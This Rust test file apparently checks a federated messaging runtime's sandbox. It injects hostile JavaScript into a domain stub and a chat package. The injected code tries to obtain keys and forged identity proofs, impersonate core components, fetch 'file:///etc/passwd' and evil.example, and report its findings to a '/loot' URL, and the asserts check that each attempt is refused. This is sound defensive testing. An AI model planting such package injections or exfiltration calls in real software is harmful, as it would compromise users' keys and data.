//! Attacks by packages that run in a real app: a domain's stub, and the own domain's chat.

use lab::person::Setup;
use lab::{Crooked, Domain, Person};
use node::{Package, Wire};
use serde_json::{Value, json};

/// What the evil code found out: pairs of what it tried and what came of it.
async fn loot(crook: &Crooked) -> Value {
    let found = async {
        loop {
            let asked = crook.asked();
            let text = asked.split("/loot?r=").nth(1).and_then(|rest| rest.split(' ').next());
            if let Some(text) = text {
                let text = url::form_urlencoded::parse(format!("r={text}").as_bytes()).next().unwrap().1.into_owned();
                return serde_json::from_str(&text).unwrap();
            }
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        }
    };
    tokio::time::timeout(std::time::Duration::from_secs(60), found).await.expect("the evil code tells what it found")
}

/// Helpers of the evil code: `ask` gives the code and value of the answer.
const TOOLS: &str = "
const ask = (type, to, body, from) => new Promise((done) => {
  setTimeout(() => done([408]), 8000);
  bus.postMessage({ type, to, from, body }, ({ body }) => { if (body.code >= 200) done([body.code, body.value]); });
});
const tries = {};
const attempt = async (name, work) => { try { tries[name] = await work(); } catch (error) { tries[name] = ['error', String(error.name)]; } };
const report = () => fetch(origin + '/loot?r=' + encodeURIComponent(JSON.stringify(tries)));
";

/// The stub of a domain with an attack that begins when it starts.
fn evil_stub(attack: &str) -> Package {
    let folder = lab::root().join("hyperties/protostubs");
    let source = std::fs::read_to_string(folder.join("a-ws.js")).unwrap();
    let descriptor = std::fs::read_to_string(folder.join("a-ws.json")).unwrap();
    let begins = "this.#status('created');";
    assert!(source.contains(begins));
    let code = format!(
        "{begins} (async () => {{ const origin = this.#origin; const own = url; {TOOLS} {attack}; await report(); }})();"
    );
    Package::new(&descriptor.replace("1.0.0", "1.0.1"), &source.replacen(begins, &code, 1)).unwrap()
}

/// Ana at an honest domain loads the evil stub of another; what it found out.
async fn visits(attack: &str) -> Value {
    let mut a = Domain::start("a.localhost", Wire::Ws).await;
    let mut m = Crooked::start("m.localhost").await;
    m.domain.node().publish(&evil_stub(attack)).unwrap();
    let mut ana = Person::new("ana", Setup::with(&[&a, &m.domain])).await;
    ana.signs_up(&a, None).await;
    let app = ana.app();
    let question = contract::Question::PersonFind { address: "mallory@m.localhost".into() };
    let finding = tokio::spawn(async move { app.ask(question).await });
    ana.allows(contract::ConsentChoice::Always).await;
    let found = loot(&m).await;
    finding.abort();
    ana.close().await;
    a.stop().await;
    m.domain.stop().await;
    found
}

/// Attack: H-20
/// By: the stub of a domain, allowed by the person
/// Does: asks the identity module for keys, and for proofs for the person's own domain, under odd names and challenges
/// Holds: it gets a proof for its own domain, as a visitor, and nothing else
#[tokio::test(flavor = "multi_thread")]
async fn a_stub_gets_no_proof_for_another_domain() {
    let found = visits(
        "const prove = (domain, challenge, from) => ask('execute', 'runtime://a.localhost/idm', { method: 'proveSession', params: { domain, challenge } }, from);
         await attempt('own', () => prove('m.localhost', 'abc'));
         await attempt('home', () => prove('a.localhost', 'abc'));
         await attempt('as the home stub', () => prove('a.localhost', 'abc', 'runtime://a.localhost/protostub/a.localhost'));
         await attempt('as the core', () => prove('a.localhost', 'abc', 'runtime://a.localhost/ua'));
         await attempt('two lines', () => prove('m.localhost', 'abc\\nmember'));
         await attempt('long', () => prove('m.localhost', 'x'.repeat(5000)));
         for (const method of ['exportKey', 'sign', 'getKeys', 'generateAssertion'])
           await attempt(method, () => ask('execute', 'runtime://a.localhost/idm', { method, params: { domain: 'm.localhost', challenge: 'abc' } }));
         await attempt('read', () => ask('read', 'runtime://a.localhost/idm', {}))",
    )
    .await;
    assert_eq!(found["own"][0], 200, "the honest case: {found}");
    assert_eq!(found["own"][1]["role"], "visitor");
    assert!(found["own"][1]["user"].is_null(), "not even a name: {found}");
    for (name, got) in found.as_object().unwrap().iter().filter(|(name, _)| *name != "own") {
        assert!(got[0].as_u64().is_none_or(|code| code >= 400), "{name}: {got}");
        assert!(!got.to_string().contains("signature"), "{name}: {got}");
    }
}

/// Attack: H-21
/// By: the stub of a domain, allowed by the person
/// Does: lists and reads conversations, writes into one, starts a call, asks the store, and speaks as core, person and other stubs
/// Holds: each is refused, though its package asked for all of the core's addresses
#[tokio::test(flavor = "multi_thread")]
async fn a_stub_has_no_say_in_the_core() {
    let found = visits(
        "const core = 'runtime://a.localhost/';
         for (const from of [undefined, core + 'ua', core + 'sm', 'user://a.localhost/ana', core + 'protostub/a.localhost', 'hyperty://m.localhost/x']) {
           const as = String(from);
           await attempt('list ' + as, () => ask('read', core + 'sm', { scheme: 'comm' }, from));
           await attempt('create ' + as, () => ask('create', core + 'sm', { schema: 'comm', value: {}, authorise: ['user://m.localhost/mallory'] }, from));
           await attempt('call ' + as, () => ask('execute', core + 'media', { method: 'createOffer', params: {} }, from));
           await attempt('ask ' + as, () => ask('execute', core + 'ua', { method: 'consent.answer', params: {} }, from));
         }
         await attempt('other stub', () => ask('execute', core + 'protostub/a.localhost', {}))",
    )
    .await;
    assert_eq!(found.as_object().unwrap().len(), 25);
    for (name, got) in found.as_object().unwrap() {
        assert!(got[0].as_u64().is_none_or(|code| code >= 400), "{name}: {got}");
    }
}

/// Attack: H-22
/// By: the stub of a domain, allowed by the person
/// Does: fetches from other hosts, from this machine's services and the own domain's Node, and opens sockets there
/// Holds: it reaches its own origin and nothing else
#[tokio::test(flavor = "multi_thread")]
async fn a_stub_reaches_its_own_origin_only() {
    let found = visits(
        "const port = (at) => 'http://127.0.0.1:' + at + '/';
         await attempt('own', async () => [(await fetch(origin + '/.well-known/parlance')).status]);
         for (const to of ['http://a.localhost/', 'http://localhost/', port(80), port(22), 'http://[::1]/', 'https://evil.example/', 'file:///etc/passwd', origin.replace('m.', 'x.')])
           await attempt(to, async () => [(await fetch(to)).status]);
         for (const to of ['ws://127.0.0.1:80/', 'ws://a.localhost/wire/ws', 'wss://evil.example/'])
           await attempt(to, () => new Promise((done) => {
             const socket = new WebSocket(to);
             socket.onopen = () => done([200]);
             socket.onclose = () => done(['closed']);
             socket.onerror = () => done(['error']);
           }));",
    )
    .await;
    assert_eq!(found["own"], json!([200]));
    for (name, got) in found.as_object().unwrap().iter().filter(|(name, _)| *name != "own") {
        assert!(got[0].is_string(), "{name}: {got}");
    }
}

/// Attack: H-23
/// By: the own domain's chat, altered
/// Does: asks for keys, speaks as the person, writes to another's inbox past the seal, and reads what is not its own
/// Holds: each is refused; what it may do is to write in conversations
#[tokio::test(flavor = "multi_thread")]
async fn an_evil_chat_gets_no_key_and_no_way_past_the_seal() {
    let mut a = Crooked::start("a.localhost").await;
    let folder = lab::root().join("hyperties/dist");
    let mut descriptor: Value =
        serde_json::from_str(&std::fs::read_to_string(folder.join("chat.json")).unwrap()).unwrap();
    // Newer than the true one will be: a catalogue takes no step back.
    descriptor["version"] = json!("99.0.0");
    descriptor["grants"]["speakTo"] = json!(["*"]);
    descriptor["grants"]["fetch"] = json!(["{origin}"]);
    let source = std::fs::read_to_string(folder.join("chat.js")).unwrap();
    let origin = a.domain.node().origin().to_owned();
    let attack = "
        const core = 'runtime://a.localhost/';
        await attempt('list', () => ask('read', core + 'sm', { scheme: 'comm' }));
        await attempt('prove', () => ask('execute', core + 'idm', { method: 'proveSession', params: { domain: 'a.localhost', challenge: 'abc' } }));
        await attempt('prove as stub', () => ask('execute', core + 'idm', { method: 'proveSession', params: { domain: 'a.localhost', challenge: 'abc' } }, core + 'protostub/a.localhost'));
        await attempt('offer', () => ask('execute', core + 'media', { method: 'createOffer', params: {} }));
        await attempt('stub', () => ask('execute', core + 'protostub/a.localhost', {}));
        await attempt('inbox', () => ask('create', 'hyperty://a.localhost/somebody', { v: 1, sealed: 'aGk' }));
        await attempt('clear', () => ask('create', 'hyperty://b.localhost/somebody', { text: 'past the seal' }));
        await attempt('as ana', () => ask('create', 'hyperty://b.localhost/somebody', { text: 'past the seal' }, 'user://a.localhost/ana'));
        await attempt('foreign object', () => ask('create', 'comm://b.localhost/one/children/', { value: { type: 'text', text: 'x' } }));
        await attempt('call object', () => ask('create', core + 'sm', { schema: 'connection', value: {}, authorise: ['user://b.localhost/ben', 'user://c.localhost/carl'] }));
        await attempt('storage', async () => [await storage.get('anything')]);
        await report();";
    let code = source.replacen(
        "async _start(url, bus, config) {",
        &format!(
            "async _start(url, bus, config) {{ const origin = '{origin}'; (async () => {{ {TOOLS} {attack} }})();"
        ),
        1,
    );
    assert!(code.contains("/loot?r="), "the attack is in the package");
    a.domain.node().publish(&Package::new(&descriptor.to_string(), &code).unwrap()).unwrap();
    let mut ana = Person::new("ana", Setup::with(&[&a.domain])).await;
    ana.signs_up(&a.domain, None).await;
    let found = loot(&a).await;
    assert_eq!(found["list"][0], 200, "the honest case: {found}");
    for (name, got) in found.as_object().unwrap().iter().filter(|(name, _)| *name != "list") {
        assert!(got[0].as_u64().is_none_or(|code| code >= 400), "{name}: {got}");
    }
    ana.close().await;
    a.domain.stop().await;
}
